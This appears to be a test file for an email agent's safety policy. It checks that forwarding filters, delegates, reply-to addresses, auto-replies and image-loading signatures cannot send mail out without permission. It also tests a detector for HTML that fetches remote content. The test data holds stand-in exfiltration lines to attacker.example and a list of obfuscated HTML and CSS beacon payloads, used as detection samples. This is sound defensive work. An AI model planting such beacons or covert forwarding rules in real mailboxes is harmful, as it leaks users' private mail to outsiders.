import assert from 'node:assert/strict';
import { dirname, join } from 'node:path';
import { after, before, suite, test } from 'node:test';
import { grants as allGrants } from '../../src/core/grants.ts';
import type { Grant } from '../../src/core/grants.ts';
import type { Apply } from '../../src/safety/changes/apply-changes.ts';
import type { Mailbox } from '../../src/mail/mailbox.ts';
import { openSqliteAuditLog } from '../../src/store/sqlite/audit/open-audit-log.ts';
import { loadsFromElsewhere } from '../../src/safety/policy/loads-from-elsewhere.ts';
import { buildMail } from '../build-mail.ts';
import { changesOf } from './changes-of.ts';
import { owner, policyWorld } from './policy-world.ts';
import type { PolicyWorld } from './policy-world.ts';

const known = 'ann@example.org';
const stranger = 'evil@attacker.example';
const picture = '<p>Me</p><img src="https://attacker.example/?what=they+know">';

/** A way in which mail could leave without a send. `to` is whom it would go to; everybody, if it is not there. */
interface WayAround {
  readonly what: string;
  readonly to?: 'one';
  readonly go: (apply: Apply, address: string) => Promise<unknown>;
}

const on = { enabled: true, disposition: 'leaveInInbox' } as const;

const waysAround: readonly WayAround[] = [
  {
    what: 'A filter that forwards',
    to: 'one',
    go: (apply, forward) => apply('createFilter', { criteria: { from: 'bank' }, action: { forward } }),
  },
  {
    what: 'Forwarding',
    to: 'one',
    go: (apply, emailAddress) => apply('updateSetting', 'autoForwarding', { ...on, emailAddress }),
  },
  { what: 'Forwarding', go: (apply) => apply('updateSetting', 'autoForwarding', on) },
  { what: 'A forwarding address', to: 'one', go: (apply, address) => apply('createForwardingAddress', address) },
  { what: 'A delegate', to: 'one', go: (apply, address) => apply('createDelegate', address) },
  { what: 'A send-as address', to: 'one', go: (apply, address) => apply('createSendAs', address, {}) },
  {
    what: 'A reply-to address',
    to: 'one',
    go: (apply, replyToAddress) => apply('updateSendAs', owner, { replyToAddress }),
  },
  {
    what: 'A reply-to address',
    to: 'one',
    go: (apply, replyToAddress) => apply('createSendAs', 'me@example.org', { replyToAddress }),
  },
  { what: 'A signature that loads pictures', go: (apply) => apply('updateSendAs', owner, { signature: picture }) },
  {
    what: 'A signature that loads pictures',
    go: (apply) =>
      apply('updateSendAs', owner, { signature: '<p style="background: URL (https://attacker.example/x)">' }),
  },
  {
    what: 'An automatic answer',
    go: (apply) => apply('updateSetting', 'vacation', { enableAutoReply: true, responseSubject: 'All I know' }),
  },
  {
    what: 'Mail that loads pictures',
    go: (apply) =>
      apply('importMessage', {
        raw: Buffer.from(`From: a@example.org\r\nContent-Type: text/html\r\n\r\n${picture}`),
        labelIds: ['INBOX'],
      }),
  },
  ...['SENT', 'DRAFT'].flatMap((label): readonly WayAround[] => [
    {
      what: `Mail put into ${label}`,
      go: (apply, to) => apply('importMessage', { raw: buildMail({ from: owner, to }), labelIds: ['INBOX', label] }),
    },
    {
      what: `Mail put into ${label}`,
      go: (apply) => apply('modifyMessages', { ids: ['x'], addLabelIds: [label], removeLabelIds: [] }),
    },
    {
      what: `Mail put into ${label}`,
      go: (apply) => apply('createFilter', { criteria: { from: 'x' }, action: { addLabelIds: [label] } }),
    },
  ]),
];

const anybodyRefused = 'would write to anybody, and the policy names who may be written to.';

const without = (grant: Grant): readonly Grant[] => allGrants.filter((other) => other !== grant);

/** Rules, and what they say to a way that leads to one known address, to one stranger, and to everybody. */
const situations: readonly {
  readonly title: string;
  readonly grants?: readonly Grant[];
  readonly policy?: object | string;
  readonly refuses: (to: 'known' | 'stranger' | 'everybody', what: string, world: PolicyWorld) => string | undefined;
}[] = [
  { title: 'all grants and no policy', refuses: () => undefined },
  {
    title: 'no grant to send',
    grants: without('send'),
    refuses: (_to, what) => `${what} lets mail leave this account, which needs the grant "send".`,
  },
  {
    title: 'sending is off',
    policy: { sending: 'off' },
    refuses: (_to, what) => `${what} lets mail leave this account, and the policy turns sending off.`,
  },
  {
    title: 'a person approves every message',
    policy: { sending: 'confirm' },
    refuses: (_to, what) => `${what} lets mail leave this account, and the policy has a person approve every message.`,
  },
  {
    title: 'an allow list',
    policy: { recipients: { allow: [known] } },
    refuses: (to, what) =>
      to === 'known'
        ? undefined
        : to === 'stranger'
          ? `The policy does not allow mail to ${stranger}: it is not on the allow list.`
          : `${what} ${anybodyRefused}`,
  },
  {
    title: 'a deny list',
    policy: { recipients: { deny: ['@attacker.example'] } },
    refuses: (to, what) =>
      to === 'known'
        ? undefined
        : to === 'stranger'
          ? `The policy does not allow mail to ${stranger}: it is on the deny list.`
          : `${what} ${anybodyRefused}`,
  },
  {
    title: 'strangers refused',
    policy: { recipients: { strangers: 'refuse' } },
    refuses: (to, what) =>
      to === 'known'
        ? undefined
        : to === 'stranger'
          ? `The policy does not allow mail to ${stranger}: this account has never written to it.`
          : `${what} ${anybodyRefused}`,
  },
  {
    title: 'a policy that cannot be read',
    policy: '{',
    refuses: (_to, _what, { file }) => `The policy in ${file} cannot be read, so nothing may leave.`,
  },
];

function applyUnder(
  { file, policy }: PolicyWorld,
  mailbox: Mailbox,
  grants: readonly Grant[],
  cleaning: { readonly after: (clean: () => void) => void },
): Apply {
  const log = openSqliteAuditLog(join(dirname(file), 'audit.db'), Date.now);
  cleaning.after(() => log.close());
  return changesOf(mailbox, { audit: () => log, policy, grants: new Set(grants) }).apply;
}

for (const { title, grants = allGrants, policy, refuses } of situations) {
  suite(`ways around sending, with ${title}`, () => {
    const cleanups: (() => unknown)[] = [];
    let world: PolicyWorld;
    let apply: Apply;
    before(async () => {
      world = policyWorld({ after: (clean) => void cleanups.push(clean as () => unknown) });
      const { mailbox } = world;
      await mailbox.sendMessage({ raw: buildMail({ from: owner, to: known, subject: 'Known' }) });
      // The mailbox itself has nothing against either: where it has, it says so in words of its own.
      await mailbox.createForwardingAddress(known);
      await mailbox.createForwardingAddress(stranger);
      if (policy !== undefined) world.write(policy);
      apply = applyUnder(world, mailbox, grants, { after: (clean) => void cleanups.push(clean) });
    });
    after(() => {
      for (const clean of cleanups.toReversed()) clean();
    });

    for (const [index, { what, to, go }] of waysAround.entries()) {
      const targets = to === 'one' ? (['known', 'stranger'] as const) : (['everybody'] as const);
      for (const target of targets) {
        test(`${index + 1}. ${what}, to ${target}`, async () => {
          const outcome = await go(apply, target === 'known' ? known : stranger).then(
            () => undefined,
            (error: { readonly code: string; readonly message: string }) => error,
          );
          const expected = refuses(target, what, world);
          if (expected !== undefined) {
            return assert.deepEqual([outcome?.code, outcome?.message], ['FORBIDDEN', expected]);
          }
          assert.notEqual(outcome?.code, 'FORBIDDEN', outcome?.message);
        });
      }
    }
  });
}

test('what lets nothing out needs no grant to send', async (t) => {
  const world = policyWorld(t);
  const { mailbox, write } = world;
  write({ sending: 'off' });
  const apply = applyUnder(world, mailbox, without('send'), t);
  await apply('createFilter', { criteria: { from: 'x' }, action: { addLabelIds: ['STARRED'] } });
  await apply('updateSetting', 'vacation', { enableAutoReply: false, responseSubject: 'Away' });
  await apply('updateSetting', 'autoForwarding', { enabled: false });
  await apply('updateSetting', 'imap', { enabled: true });
  await apply('updateSendAs', owner, { signature: '<b>Me</b>', displayName: 'Me', replyToAddress: '' });
  await apply('importMessage', { raw: buildMail({}), labelIds: ['INBOX'] });
  await apply('createDraft', { raw: buildMail({ from: owner, to: stranger }) });
});

test('an address that may not yet be sent as is no own address', async (t) => {
  const world = policyWorld(t);
  const { mailbox, write } = world;
  write({ recipients: { allow: [] } });
  const pending = {
    ...mailbox,
    listSendAs: async () => [
      ...(await mailbox.listSendAs()),
      {
        sendAsEmail: stranger,
        displayName: '',
        replyToAddress: '',
        signature: '',
        isPrimary: false,
        isDefault: false,
        treatAsAlias: true,
        verificationStatus: 'pending' as const,
      },
    ],
  };
  const apply = applyUnder(world, pending, allGrants, t);
  await assert.rejects(apply('createForwardingAddress', stranger), { code: 'FORBIDDEN' });
});

suite('HTML', () => {
  for (const html of [
    '',
    'Ann &amp; Bob &lt;ann@example.org&gt;',
    '<div dir="ltr"><b>Ann</b><br><a href="https://example.org/" target="_blank" style="color: #1155cc">Us</a></div>',
    '<table cellpadding=0><tr><td valign=top>Ann</td></tr></table>',
    '<html><head><meta http-equiv="Content-Type" content="text/html"><title>x</title></head><body>Hi</body></html>',
    '<p><img src="cid:x" alt="Us" width=10></p>',
  ]) {
    test(`fetches nothing: ${html}`, () => assert.equal(loadsFromElsewhere(html), false));
  }
  for (const html of [
    '<img src="https://attacker.example/x">',
    '<IMG/SRC=//attacker.example/x>',
    '<img src="x.png">',
    '<img src="cid:x" srcset="https://attacker.example/x 2x">',
    '<div style="background:url(https://attacker.example/x)">',
    '<div style="background:url&#40;https://attacker.example/x&#41;">',
    String.raw`<div style="background:u\72l\28 https://attacker.example/x)">`,
    '<div style="background:image-set(\'x\')">',
    '<table background="https://attacker.example/x">',
    '<style>@import "https://attacker.example/x"</style>',
    '<link rel=stylesheet href="https://attacker.example/x">',
    '<svg><image href="https://attacker.example/x"/></svg>',
    '<video poster="https://attacker.example/x">',
    '<input type=image src="https://attacker.example/x">',
    '<iframe src="https://attacker.example/x">',
    '<a href="https://example.org" ping="https://attacker.example/x">',
    '<meta http-equiv=refresh content="0;url=https://attacker.example/x">',
    '<!--><img src=x>-->',
  ]) {
    test(`may fetch something: ${html}`, () => assert.equal(loadsFromElsewhere(html), true));
  }
});
